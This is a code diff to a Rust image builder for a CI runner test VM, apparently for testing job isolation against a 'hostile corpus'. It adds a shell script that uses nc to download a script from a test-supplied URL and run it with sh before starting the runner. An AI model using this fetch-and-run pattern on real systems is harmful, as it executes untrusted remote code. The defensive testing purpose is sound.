@@ -189,6 +189,7 @@ fn build() -> Result<PathBuf, String> {
     let runner = root.join("opt/actions-runner");
     std::fs::create_dir_all(&runner).map_err(|e| e.to_string())?;
     write_exec(&runner.join("run.sh"), RUN_SH)?;
+    write_exec(&runner.join("hostile.sh"), HOSTILE_SH)?;
     // The cloud kernel's network driver is a module its initramfs leaves out: the image's
     // hook loads it and what it needs (modules.dep's order, dependencies first), as an image
     // built for that kernel would.
@@ -217,6 +218,18 @@ fn build() -> Result<PathBuf, String> {
     let _ = std::fs::remove_dir_all(&root);
     Ok(image)
 }
+
+/// The hostile corpus's runner command: the attack its test serves, then the runner.
+const HOSTILE_SH: &str = r#"#!/bin/sh
+if [ -n "$HOSTILE_URL" ]; then
+    hp=${HOSTILE_URL#http://}
+    printf 'GET /attack HTTP/1.0\r\n\r\n' | nc -w 10 "${hp%:*}" "${hp#*:}" > /tmp/attack.http
+    echo "HOSTILE fetched: nc said $?"
+    sed '1,/^\r*$/d' /tmp/attack.http > /tmp/attack.sh
+    sh /tmp/attack.sh
+fi
+exec /opt/actions-runner/run.sh "$@"
+"#;
 
 /// The test image's runner: says whether the disk holds an earlier job's mark (it must not:
 /// each job has its own overlay), leaves its own, powers the guest off when the test's
